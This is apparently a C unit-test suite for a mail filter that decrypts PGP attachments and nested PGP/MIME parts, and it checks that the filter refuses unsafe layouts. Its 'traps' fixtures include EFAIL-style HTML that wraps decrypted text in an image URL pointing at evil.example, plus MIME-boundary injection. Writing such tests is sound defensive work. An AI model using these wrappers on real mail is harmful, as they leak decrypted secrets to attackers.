/* Attachments encrypted one by one, and PGP/MIME that somebody wrapped. */
#include <stdio.h>
#include <string.h>

#include "mail/mime.h"
#include "mail/verdict.h"
#include "mail/write.h"
#include "t/unit/filterd/harness.h"

Suite *parts_suite(void);

#define HEAD "From: Bob <bob@partner.example>\r\nTo: alice@our.example\r\nSubject: outer\r\n"
#define MIXED HEAD "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=mm\r\n\r\n"
#define TEXT "--mm\r\nContent-Type: text/plain\r\n\r\nsee the file\r\n"
#define SECRET "the secret words\r\n"

static const enum who to_alice[] = {ALICE, NOBODY};
static const enum who to_carol[] = {CAROL, NOBODY};

/* A part with this header and, in base64, an OpenPGP message. */
static void
put_file(struct buf *m, const char *header, const enum who *to, bool armor)
{
	const struct pgp_encrypt_params how = {.armor = armor};
	struct mail_filter f;
	struct sink s = sink_buf(m);
	struct buf a;

	buf_init(&a, 1 << 20);
	encrypted(&a, to, BOB, SECRET, strlen(SECRET), &how);
	buf_printf(m, "--mm\r\n%sContent-Transfer-Encoding: base64\r\n\r\n", header);
	mail_filter_init(&f, MAIL_B64_ENCODE, &s);
	ck_assert_int_eq(mail_filter_write(&f, buf_ptr(&a), buf_len(&a)), 0);
	ck_assert_int_eq(mail_filter_end(&f), 0);
	buf_free(&a);
}

/* A part that is PGP/MIME. */
static void
put_nested(struct buf *m, const enum who *to, const char *entity)
{
	struct buf a;

	buf_init(&a, 1 << 20);
	encrypted(&a, to, BOB, entity, strlen(entity), NULL);
	buf_puts(m, "--mm\r\n");
	pgp_mime(m, "", &a);
	buf_free(&a);
}

static void
stays(const struct buf *m)
{
	struct outcome o;

	open_as(&o, ALICE, buf_ptr(m), buf_len(m));
	ck_assert_msg(o.result == OPEN_UNCHANGED, "result %d, %s", o.result, o.text);
	outcome_free(&o);
}

static const struct {
	const char *header;
	bool armor;
	const char *name;
} files[] = {
    {"Content-Type: application/octet-stream; name=\"a b.pdf.pgp\"\r\n", false, "a b.pdf"},
    {"Content-Type: application/octet-stream\r\n"
     "Content-Disposition: attachment; filename=x.doc.GPG\r\n",
	false, "x.doc"},
    {"Content-Type: application/pgp; name=letter.txt.asc\r\n", true, "letter.txt"},
    {"Content-Type: application/pgp-encrypted\r\n", true, "decrypted"},
    {"Content-Type: application/pdf; name=\"gr=?x?=\xc3\xbc\\\"n.pgp\"\r\n", false,
	"gr=?x?=\xc3\xbc\"n"},
};

START_TEST(opens_attached_files_as_files)
{
	struct mail_index ix;
	struct octets in;
	struct outcome o;
	struct buf m, got;
	struct sink to;
	uint32_t i;

	harness_reset();
	buf_init(&m, 1 << 20);
	buf_puts(&m, MIXED TEXT);
	put_file(&m, files[_i].header, to_alice, files[_i].armor);
	buf_puts(&m, "--mm--\r\nepilogue\r\n");
	opens(&o, &m, "partly partly-good");
	ck_holds(&o.octets, TEXT);
	ck_holds(&o.octets, "--mm--\r\nepilogue\r\n");
	in = octets_mem(buf_ptr(&o.octets), buf_len(&o.octets));
	ck_assert_int_eq(mail_index_make(&ix, &in), 0);
	ck_assert_uint_eq(ix.n, 3);
	i = ix.parts[ix.parts[0].child].next;
	/* Never as something that a mail program shows. */
	ck_assert(mail_part_is(&ix.parts[i], "application", "octet-stream"));
	ck_assert_str_eq(ix.parts[i].disposition, "attachment");
	ck_assert_str_eq(ix.parts[i].name, files[_i].name);
	buf_init(&got, 1 << 20);
	to = sink_buf(&got);
	ck_assert_int_eq(mail_part_decode(&in, &ix.parts[i], &to), 0);
	ck_assert_uint_eq(buf_len(&got), strlen(SECRET));
	ck_assert_mem_eq(buf_ptr(&got), SECRET, strlen(SECRET));
	mail_index_free(&ix);
	buf_free(&got);
	buf_free(&m);
	outcome_free(&o);
}
END_TEST

START_TEST(leaves_other_files_alone)
{
	static const char named[] = "Content-Type: application/octet-stream; name=a.pgp\r\n";
	struct buf m;
	struct outcome o;

	harness_reset();
	buf_init(&m, 1 << 20);
	/* Another's. */
	buf_puts(&m, MIXED TEXT);
	put_file(&m, named, to_carol, false);
	buf_puts(&m, "--mm--\r\n");
	stays(&m);
	/* Not named as one, HTML, no OpenPGP at all. */
	buf_reset(&m);
	buf_puts(&m, MIXED TEXT);
	put_file(&m, "Content-Type: application/octet-stream; name=a.pgp.txt\r\n", to_alice, false);
	put_file(&m, "Content-Type: text/html; name=a.pgp\r\n", to_alice, false);
	buf_puts(&m, "--mm\r\nContent-Type: application/x; name=a.gpg\r\n\r\nno packets\r\n--mm\r\n"
		     "Content-Type: application/x; name=a.gpg\r\n\r\n\x99\xff\xff\xff\r\n--mm\r\n"
		     "Content-Type: application/x; name=k.asc\r\n\r\n"
		     "-----BEGIN PGP PUBLIC KEY BLOCK-----\r\n\r\nmQ==\r\n"
		     "-----END PGP PUBLIC KEY BLOCK-----\r\n--mm--\r\n");
	stays(&m);
	/* It may stand in the middle of markup for others. */
	buf_reset(&m);
	buf_puts(&m,
	    HEAD "Content-Type: multipart/mixed; boundary=mm\r\nContent-Type: text/html\r\n\r\n");
	put_file(&m, named, to_alice, false);
	buf_puts(&m, "--mm--\r\n");
	stays(&m);
	/* In a message of its own. */
	buf_reset(&m);
	buf_puts(&m, HEAD "Content-Type: message/rfc822\r\n\r\n" MIXED TEXT);
	put_file(&m, named, to_alice, false);
	buf_puts(&m, "--mm--\r\n");
	stays(&m);
	/* Damaged: it stays, and that is told. */
	buf_reset(&m);
	buf_puts(&m, MIXED TEXT);
	put_file(&m, named, to_alice, false);
	buf_puts(&m, "--mm--\r\n");
	world.false_key = 1;
	opens(&o, &m, "failed none");
	ck_assert_uint_eq(buf_len(&o.octets), buf_len(&m) + MAIL_VERDICT_LEN);
	ck_assert_mem_eq(buf_ptr(&o.octets) + MAIL_VERDICT_LEN, buf_ptr(&m), buf_len(&m));
	outcome_free(&o);
	buf_free(&m);
}
END_TEST

#define ENTITY "Content-Type: text/html\r\n\r\n<p>the secret words</p>\r\n"
#define FOOTER "--mm\r\nContent-Type: text/plain\r\n\r\n-- \r\na mailing list\r\n--mm--\r\n"

START_TEST(opens_what_a_mailing_list_wrapped)
{
	struct mail_index ix;
	struct octets in;
	struct outcome o;
	struct buf m;

	harness_reset();
	buf_init(&m, 1 << 20);
	buf_puts(&m, MIXED);
	put_nested(&m, to_alice, ENTITY);
	buf_puts(&m, FOOTER);
	opens(&o, &m, "partly partly-good");
	ck_holds(&o.octets, "--mm\r\n" ENTITY);
	ck_holds(&o.octets, FOOTER);
	in = octets_mem(buf_ptr(&o.octets), buf_len(&o.octets));
	ck_assert_int_eq(mail_index_make(&ix, &in), 0);
	ck_assert_uint_eq(ix.n, 3);
	mail_index_free(&ix);
	outcome_free(&o);
	buf_free(&m);
}
END_TEST

/* What stands around it, and the plaintext. */
static const struct {
	const char *before, *after, *plain;
	int failed;
} traps[] = {
    /* markup that would carry the plaintext away */
    {"--mm\r\nContent-Type: text/html\r\n\r\n<img src=\"http://evil.example/\r\n",
	"--mm\r\nContent-Type: text/html\r\n\r\n\">\r\n--mm--\r\n", ENTITY, 0},
    {"", "--mm\r\nContent-Type: image/svg+xml\r\n\r\n<svg/>\r\n--mm--\r\n", ENTITY, 0},
    {"", "--mm\r\nContent-Type: application/xhtml+xml\r\n\r\n<x/>\r\n--mm--\r\n", ENTITY, 0},
    {"", "--mm\r\nContent-Type: text/enriched\r\n\r\nx\r\n--mm--\r\n", ENTITY, 0},
    {"",
	"--mm\r\nContent-Type: message/rfc822\r\n\r\nContent-Type: text/html\r\n\r\nx\r\n"
	"--mm--\r\n",
	ENTITY, 0},
    /* parts of the plaintext that would become parts of others */
    {"", FOOTER, "Content-Type: multipart/mixed; boundary=mm\r\n\r\n--mm\r\n\r\nx\r\n--mm--\r\n",
	1},
    {"", FOOTER, "Content-Type: text/plain\r\n\r\nx\r\n--mmore\r\n", 1},
    {"", FOOTER, "--mm\r\n", 1},
};

START_TEST(opens_nothing_into_the_hands_of_others)
{
	struct outcome o;
	struct buf m;

	harness_reset();
	buf_init(&m, 1 << 20);
	buf_puts(&m, MIXED);
	buf_puts(&m, traps[_i].before);
	put_nested(&m, to_alice, traps[_i].plain);
	buf_puts(&m, traps[_i].after);
	if (!traps[_i].failed)
		stays(&m);
	else {
		opens(&o, &m, "failed none");
		ck_holds(&o.octets, "BEGIN PGP MESSAGE");
		ck_lacks(&o.octets, "X-Postern-Signer");
		outcome_free(&o);
	}
	buf_free(&m);
}
END_TEST

START_TEST(opens_no_two_of_them_side_by_side)
{
	struct buf m;

	harness_reset();
	buf_init(&m, 1 << 20);
	buf_puts(&m, MIXED);
	put_nested(
	    &m, to_alice, "Content-Type: text/html\r\n\r\n<img src=\"http://evil.example/\r\n");
	put_nested(&m, to_alice, ENTITY);
	buf_puts(&m, FOOTER);
	stays(&m);
	ck_assert_uint_eq(world.unwraps, 0);
	buf_free(&m);
}
END_TEST

START_TEST(others_parts_stay_ciphertext_and_nothing_is_kept)
{
	struct outcome o;
	struct buf m;

	harness_reset();
	buf_init(&m, 1 << 20);
	buf_puts(&m, MIXED TEXT);
	put_nested(&m, to_carol, ENTITY);
	put_file(&m, "Content-Type: application/octet-stream; name=a.pgp\r\n", to_alice, false);
	buf_puts(&m, FOOTER);
	opens(&o, &m, "partly partly-good");
	ck_holds(&o.octets, "BEGIN PGP MESSAGE");
	ck_assert_uint_eq(o.nsticky, 0);
	outcome_free(&o);
	buf_free(&m);
}
END_TEST

/* A text in a part, and bob's signature of "pay 5 EUR". */
static void
put_clear_signed(struct buf *m, const char *shown)
{
	buf_puts(m, "--mm\r\nContent-Type: text/plain\r\n\r\n");
	clear_signed(m, shown, "pay 5 EUR", BOB);
	buf_puts(m, "\r\n");
}

START_TEST(a_damaged_signature_hides_no_bad_one)
{
	static const char damaged[] =
	    "Content-Type: multipart/signed; boundary=yy;"
	    " protocol=\"application/pgp-signature\"\r\n\r\n"
	    "--yy\r\n\r\nx\r\n--yy\r\nContent-Type: application/pgp-signature\r\n\r\n"
	    "none\r\n--yy--\r\n";
	struct outcome o;
	struct buf m;

	harness_reset();
	buf_init(&m, 1 << 20);
	buf_puts(&m, MIXED);
	put_clear_signed(&m, "pay 9 EUR");
	put_nested(&m, to_alice, damaged);
	put_clear_signed(&m, "pay 5 EUR");
	buf_puts(&m, FOOTER);
	opens(&o, &m, "partly bad");
	outcome_free(&o);
	buf_free(&m);
}
END_TEST

Suite *
parts_suite(void)
{
	Suite *s = suite_create("parts");
	TCase *c = tcase_create("parts");

	tcase_set_timeout(c, 60);
	tcase_add_loop_test(c, opens_attached_files_as_files, 0, sizeof files / sizeof files[0]);
	tcase_add_test(c, leaves_other_files_alone);
	tcase_add_test(c, opens_what_a_mailing_list_wrapped);
	tcase_add_loop_test(
	    c, opens_nothing_into_the_hands_of_others, 0, sizeof traps / sizeof traps[0]);
	tcase_add_test(c, opens_no_two_of_them_side_by_side);
	tcase_add_test(c, others_parts_stay_ciphertext_and_nothing_is_kept);
	tcase_add_test(c, a_damaged_signature_hides_no_bad_one);
	suite_add_tcase(s, c);
	return s;
}
